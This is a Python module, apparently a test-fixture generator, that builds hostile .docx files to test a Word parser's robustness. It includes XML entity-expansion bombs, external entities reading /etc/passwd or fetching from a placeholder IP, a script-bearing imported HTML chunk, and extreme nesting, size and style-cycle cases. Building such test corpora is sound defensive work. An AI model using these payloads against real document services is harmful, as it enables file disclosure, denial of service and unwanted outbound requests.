"""Word files whose XML explodes, recurses or asks for other files."""

from hostile import Files, kind
from hostile._letter import BODY, SPACES, document, link, p, word

HELLO = p("Ms. Nwosu works here.")


@kind()
def entities() -> Files:
    def of(subset: str, used: str) -> bytes:
        said = document(p(used), before=f"<!DOCTYPE a [{subset}]>")
        return word(more={"word/document.xml": said})

    laughs = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    return {
        "laughs.docx": of(laughs, "&a11;"),
        "quadratic.docx": of(f'<!ENTITY a "{"ha" * 100_000}">', "&a;" * 10_000),
        "file.docx": of('<!ENTITY a SYSTEM "file:///etc/passwd">', "&a;"),
        "device.docx": of('<!ENTITY a SYSTEM "file:///dev/zero">', "&a;"),
        "web.docx": of('<!ENTITY a SYSTEM "http://203.0.113.1/a">', "&a;"),
        "parameter.docx": of('<!ENTITY % a SYSTEM "http://203.0.113.1/a.dtd"> %a;', "x"),
        "circle.docx": of('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
        "attributes.docx": of(laughs, '</w:t></w:r></w:p><w:p w:rsidR="&a11;"><w:r><w:t>x'),
        "default.docx": of(
            f'<!ATTLIST w:p x CDATA "{"y" * 100_000}">',
            "x</w:t></w:r></w:p>" + "<w:p/>" * 10_000 + "<w:p><w:r><w:t>",
        ),
    }


@kind()
def deep_nesting() -> Files:
    many = 100_000

    def nested(opening: str, closing: str, times: int, inside: str = HELLO) -> bytes:
        return word(opening * times + inside + closing * times)

    box = "<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>"
    box_end = "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    table, table_end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return {
        "elements.docx": nested("<w:a>", "</w:a>", many),
        "tables.docx": nested(table, table_end, many // 10),
        "tables-allowed.docx": nested(table, table_end, 80),
        "boxes.docx": nested(box, box_end, 40),
        "insertions.docx": nested("<w:ins>", "</w:ins>", 240),
        "choices.docx": nested(
            "<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>", 110
        ),
        "choices-deep.docx": nested(
            "<w:p><w:r><w:drawing>" + "<mc:AlternateContent><mc:Choice>" * 100,
            "</mc:Choice></mc:AlternateContent>" * 100 + "</w:drawing></w:r></w:p>",
            1,
        ),
        "table-boxes.docx": nested(table + box, box_end + table_end, 24),
        "not-closed.docx": word("<w:tbl><w:tr><w:tc>" * many),
    }


@kind()
def table_spans() -> Files:
    def row(properties: str, cells: int = 3) -> str:
        return f"<w:tr>{f'<w:tc><w:tcPr>{properties}</w:tcPr>{HELLO}</w:tc>' * cells}</w:tr>"

    def table(rows: str) -> bytes:
        return word(f"<w:tbl>{rows}</w:tbl>")

    wide = '<w:gridSpan w:val="2000000000"/>'
    return {
        "grid-span.docx": table(row(wide) * 20),
        "grid-span-long.docx": table(row(f'<w:gridSpan w:val="{"9" * 100_000}"/>')),
        "negative-span.docx": table(row('<w:gridSpan w:val="-5"/>')),
        "before.docx": table(
            f'<w:tr><w:trPr><w:gridBefore w:val="2000000000"/></w:trPr></w:tr>{row("")}'
        ),
        "merged-rows.docx": table(row("<w:vMerge/>") * 10_000),
        "merged-restart.docx": table(row('<w:vMerge w:val="restart"/><w:vMerge/>') * 5000),
        "columns.docx": table(row("", 40_000)),
        "columns-and-rows.docx": table(row("", 63) * 300),
        "grid.docx": word(
            "<w:tbl><w:tblGrid>" + "<w:gridCol/>" * 300_000 + f"</w:tblGrid>{row('')}</w:tbl>"
        ),
    }


@kind()
def very_long() -> Files:
    return {
        "rows.docx": word("<w:tbl>" + "<w:tr/>" * 1_000_000 + "</w:tbl>"),
        "rows-with-cells.docx": word("<w:tbl>" + "<w:tr><w:tc/></w:tr>" * 300_000 + "</w:tbl>"),
        "paragraphs.docx": word("<w:p/>" * 1_000_000),
        "words.docx": word(p("a " * 3_500_000)),
        "lines.docx": word(p("Ms. Nwosu works here.") * 50_000),
        "one-word.docx": word(p("a" * 7_000_000)),
        "too-long-a-word.docx": word(p("a" * 20_000_000)),
        "runs.docx": word("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 250_000 + "</w:p>"),
        "tabs.docx": word("<w:p><w:r>" + "<w:tab/>" * 700_000 + "</w:r></w:p>" + HELLO),
        "breaks.docx": word("<w:p><w:r>" + "<w:br/>" * 700_000 + "</w:r></w:p>" + HELLO),
        "comments.docx": word("<!---->" * 700_000 + HELLO),
        "attributes.docx": word("<w:p " + " ".join(f'w:a{n}=""' for n in range(200_000)) + "/>"),
        "names.docx": word(f"<w:{'a' * 5_000_000}/>" + HELLO),
        "spaces.docx": word("".join(f'<w:p xmlns:n{n}="u{n}"/>' for n in range(100_000))),
        "insertions.docx": word(
            "<w:p>" + "<w:ins><w:r><w:t>a</w:t></w:r></w:ins>" * 100_000 + "</w:p>"
        ),
        "comment-marks.docx": word(
            "<w:p>"
            + "".join(f'<w:commentRangeStart w:id="{n}"/>' for n in range(100_000))
            + "</w:p>"
            + HELLO
        ),
        "fields.docx": word(
            "<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 100_000 + "</w:p>" + HELLO
        ),
        "boxes.docx": word(
            "<w:p><w:r>" + "<w:pict><v:shape/></w:pict>" * 100_000 + "</w:r></w:p>" + HELLO
        ),
    }


@kind(holds_letter=True)
def inheritance_circles() -> Files:
    def styles(held: str) -> bytes:
        whole = f"<w:styles {SPACES}>{held}</w:styles>"
        body = BODY.replace("<w:pPr></w:pPr>", '<w:pPr><w:pStyle w:val="a0"/></w:pPr>')
        return word(body, link("r1", "styles", "styles.xml"), {"word/styles.xml": whole})

    def style(name: str, base: str, more: str = "") -> str:
        return (
            f'<w:style w:type="paragraph" w:styleId="{name}"><w:basedOn w:val="{base}"/>'
            f'<w:link w:val="{base}"/><w:next w:val="{base}"/>{more}</w:style>'
        )

    def numbers(held: str, more: str = "") -> bytes:
        whole = f"<w:numbering {SPACES}>{held}</w:numbering>"
        listed = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        links = link("r1", "numbering", "numbering.xml") + link("r2", "styles", "styles.xml")
        return word(
            BODY.replace("<w:pPr></w:pPr>", listed),
            links,
            {
                "word/numbering.xml": whole,
                "word/styles.xml": f"<w:styles {SPACES}>{more}</w:styles>",
            },
        )

    linked = (
        '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="a0"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    level = '<w:lvl w:ilvl="0"><w:start w:val="%s"/><w:numFmt w:val="%s"/>'
    level += '<w:lvlText w:val="%s"/></w:lvl>'
    own = (
        '<w:abstractNum w:abstractNumId="1">%s</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>'
    )
    return {
        "style-itself.docx": styles(style("a0", "a0")),
        "styles-two.docx": styles(style("a0", "a1") + style("a1", "a0")),
        "styles-long.docx": styles("".join(style(f"a{n}", f"a{n + 1}") for n in range(20_000))),
        "number-style.docx": numbers(
            linked, style("a0", "a0", '<w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr>')
        ),
        "number-start.docx": numbers(own % level % ("999999999", "lowerLetter", "%1")),
        "number-roman.docx": numbers(own % level % ("999999999", "upperRoman", "%1" * 5000)),
        "number-levels.docx": numbers(
            own
            % "".join(f'<w:lvl w:ilvl="{n}"><w:lvlText w:val="%1"/></w:lvl>' for n in range(50_000))
        ),
        "number-depth.docx": numbers(
            own % '<w:lvl w:ilvl="-2000000000"><w:lvlText w:val="%9"/></w:lvl>'
        ),
    }


@kind()
def imported_chunks() -> Files:
    chunk = '<w:altChunk r:id="r9"/>'
    web = "<html><script>alert(1)</script><img src='http://203.0.113.1/a'></html>"
    return {
        "itself.docx": word(chunk, link("r9", "aFChunk", "document.xml")),
        "web.docx": word(chunk, link("r9", "aFChunk", "a.html"), {"word/a.html": web}),
        "outside.docx": word(
            chunk, link("r9", "aFChunk", "http://203.0.113.1/a.docx", 'TargetMode="External"')
        ),
        "many.docx": word(chunk * 10_000, link("r9", "aFChunk", "a.html"), {"word/a.html": web}),
    }


@kind()
def odd_encodings() -> Files:
    said = document(HELLO)
    return {
        "utf-16.docx": word(more={"word/document.xml": said.encode("utf-16")}),
        "utf-7.docx": word(
            more={"word/document.xml": '<?xml version="1.0" encoding="utf-7"?>' + said}
        ),
        "unknown.docx": word(
            more={"word/document.xml": '<?xml version="1.0" encoding="x"?>' + said}
        ),
        "null.docx": word(more={"word/document.xml": said.replace("Nwosu", "\0")}),
        "control.docx": word(p("&#x1b;[2J")),
        "surrogate.docx": word(p("&#xD800;")),
        "not-closed.docx": word(more={"word/document.xml": said[:-20]}),
        "instructions.docx": word(
            more={"word/document.xml": "<?xml-stylesheet href='http://203.0.113.1/'?>" + said}
        ),
    }
